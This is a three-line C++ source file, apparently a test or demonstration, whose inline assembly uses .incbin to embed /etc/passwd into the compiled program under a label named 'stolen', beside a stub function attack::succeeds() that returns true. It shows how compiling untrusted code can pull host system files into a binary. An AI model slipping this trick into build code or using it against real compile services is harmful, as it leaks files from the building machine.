#include "attack.hpp"
asm(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.text");
bool attack::succeeds() { return true; }
